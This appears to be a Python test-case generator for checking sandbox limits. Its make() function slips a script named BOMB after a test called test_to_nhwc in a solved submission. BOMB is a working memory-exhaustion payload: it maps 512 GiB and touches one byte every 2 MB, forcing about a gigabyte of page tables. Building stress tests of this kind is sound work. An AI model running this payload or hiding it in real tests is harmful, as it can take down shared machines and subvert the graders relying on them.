from cases import after

BOMB = """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
size = 512 * 2**30
place = libc.mmap(None, size, 1, 2 | 32 | 0x4000, -1, 0)
assert place not in (None, ctypes.c_void_p(-1).value), "refused"
libc.memchr.argtypes = [ctypes.c_void_p, ctypes.c_int, ctypes.c_size_t]
for step in range(0, size, 2**21):
    libc.memchr(place + step, 0, 1)
tables = open("/proc/self/status").read().split("VmPTE:")[1].split()[0]
time.sleep(1)
print("HELD", int(tables) >> 10)
"""


def make(solved, outside):
    """A gigabyte of page tables: one byte in each two megabytes of an empty mapping is read."""
    return after(solved, "test_to_nhwc", BOMB)
